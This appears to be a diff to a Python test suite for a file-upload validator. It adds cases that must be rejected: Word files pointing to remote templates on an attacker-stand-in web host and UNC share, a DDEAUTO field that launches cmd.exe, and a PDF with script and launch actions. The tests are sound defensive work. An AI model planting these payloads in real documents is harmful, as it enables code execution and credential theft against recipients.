@@ -66,6 +66,11 @@ def liar(size: int = 8 << 20) -> bytes:
     )
 
 
+SETTINGS = "word/_rels/settings.xml.rels"
+TEMPLATE = (
+    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="%s" TargetMode="External"/></Relationships>'
+)
 REFUSED = {
     "F01 empty": (b"", "a.pdf", "空的"),
     "F01 one byte": (b"x", "a.pdf", "内容却不是"),
@@ -80,6 +85,9 @@ REFUSED = {
     "F05 lies about it": (liar(), "a.pptx", "内容却不是"),
     "F05 too many parts": (zipped({f"xl/{n}": b"" for n in range(4100)}), "a.xlsx", "大得不正常"),
     "F06 macros renamed": (word(word__vbaProject_bin=b"x"), "a.docx", "宏"),
+    "F06 a template from the net": (word(**{SETTINGS: TEMPLATE % b"https://evil.example/t.dotm"}), "a.docx", "到别处取东西"),
+    "F06 a template of another machine": (word(**{SETTINGS: TEMPLATE % b"\\\\evil\\t.dotm"}), "a.docx", "到别处取东西"),
+    "F06 a field that starts a program": (word(word__header1_xml=b"<w:instrText> DDEAUTO c:\\cmd.exe </w:instrText>"), "a.docx", "启动程序"),
     "F12 a drawing with a script": (SVG, "a.svg", "不能传"),
     "F12 the same named as a photo": (SVG, "a.png", "不是照片"),
     "F01 a film": (b"\0\0\0\x18ftypmp42" + bytes(40), "a.mp4", "不能传"),
@@ -125,7 +133,8 @@ def test_f16_f08_papers_from_outside_are_downloaded_never_opened(cast, login):
     """A PDF with a script, a launch and a zip behind it (F03) is kept as it is and given as a download."""
     hostile = PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert)>>/AA<</O<</S/Launch/F(cmd)>>>>") + zipped({"a": b"x"})
     activity = an_activity(cast)
-    for data, name, shown in ((hostile, "讲稿.pdf", False), (word(), "教案.docx", False), (a_photo(), "照片.png", True)):
+    at_home = word(**{SETTINGS: TEMPLATE % b"file:///C:\\Users\\laoshi\\Normal.dotm"})
+    for data, name, shown in ((hostile, "讲稿.pdf", False), (word(), "教案.docx", False), (at_home, "模板.docx", False), (a_photo(), "照片.png", True)):
         row = ActivityFile.objects.create(activity=activity, file=uploads.keep(cast.person("office"), data, name))
         answer = login("teacher").get(reverse("file", args=[row.file_id]))
         assert answer["Content-Disposition"].startswith("inline" if shown else "attachment"), name
